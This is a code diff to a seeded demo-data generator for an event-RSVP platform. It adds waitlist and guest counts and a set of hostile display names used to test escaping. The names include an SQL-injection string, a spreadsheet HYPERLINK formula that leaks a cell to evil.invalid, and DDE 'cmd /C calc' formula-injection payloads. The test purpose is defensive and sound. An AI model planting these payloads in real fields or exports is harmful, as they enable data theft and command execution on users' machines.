@@ -3,8 +3,9 @@
 Generated deterministically (one seeded Random) the same way on every start: about 2,500 members, most
 with a name of their own and a few percent sharing one (namesakes are real), with names from many scripts
 (CJK, Hangul, Arabic and Hebrew, Cyrillic, Devanagari, accents, emoji, combining marks), a few
-hostile-looking display names to exercise escaping, ids beyond 2**53 and up to the 64-bit maximum, and four
-events of 5, 40, 250 and 2,000 RSVPs. It never touches the network.
+hostile-looking display names to exercise escaping (HTML, SQL, spreadsheet formulas), ids beyond 2**53 and
+up to the 64-bit maximum, and four events of 5, 40, 250 and 2,000 RSVPs, where every 11th RSVP is on the
+waiting list and every 7th brings one or two guests. It never touches the network.
 """
 
 import random
@@ -100,6 +101,13 @@ SPECIAL = [
     Profile(1006, "zoë_m", "Zoë Mîlle-Feuille"),
     Profile(1007, "bobby_tables", "Robert'); DROP TABLE guests;--"),
     Profile(1008, "long_name", "Hubert Blaine Wolfeschlegelsteinhausenbergerdorff Senior, of Bergedorf"),
+    # names a spreadsheet would run as formulas when a CSV export opens (each first character of the rule)
+    Profile(1009, "formula_equals", '=HYPERLINK("https://evil.invalid/?leak="&A1,"Click me")'),
+    Profile(1010, "formula_plus", "+SUM(1+1)*cmd|' /C calc'!A0"),
+    Profile(1011, "formula_minus", "-2+3+cmd|' /C calc'!A0"),
+    Profile(1012, "formula_at", "@SUM(1+1)"),
+    Profile(1013, "formula_tab", "\t=1+2"),
+    Profile(1014, "formula_cr", "\r=1+2"),
 ]
 
 # (thread, title, date, number of RSVPs); one thread without an event, to show platform_event_not_found.
@@ -156,8 +164,9 @@ class DemoPlatform(Platform):
         for thread, title, date, size in EVENTS:
             chosen = SPECIAL[:min(size, len(SPECIAL))] + rng.sample(ordinary, max(0, size - len(SPECIAL)))
             before = [timedelta(minutes=rng.randrange(60, 60 * 24 * 40)) for _ in chosen]  # up to 40 days
-            rsvps = sorted((Rsvp(p.platform_user_id, date - ago) for p, ago in zip(chosen, before)),
-                           key=lambda r: r.joined_at)
+            rsvps = sorted((Rsvp(p.platform_user_id, date - ago, waitlisted=n % 11 == 10,
+                                 guests=1 + n % 2 if n % 7 == 6 else 0)
+                            for n, (p, ago) in enumerate(zip(chosen, before))), key=lambda r: r.joined_at)
             events[thread] = Event(title, date, tuple(rsvps))
         return ({p.platform_user_id: p for p in members}, {p.username: p for p in members}, events)
 
